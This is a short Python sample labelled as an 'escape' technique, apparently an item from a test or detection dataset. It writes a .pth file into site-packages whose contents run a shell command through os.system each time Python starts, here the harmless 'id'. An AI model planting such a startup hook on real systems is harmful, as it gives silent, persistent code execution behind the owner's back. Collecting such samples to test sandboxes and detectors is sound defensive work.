# category: escape
# obfuscated: no
import site
target = site.getsitepackages()[0] + "/zz_hook.pth"
with open(target, "w") as fh:
    fh.write("import os; os.system('id')\n")
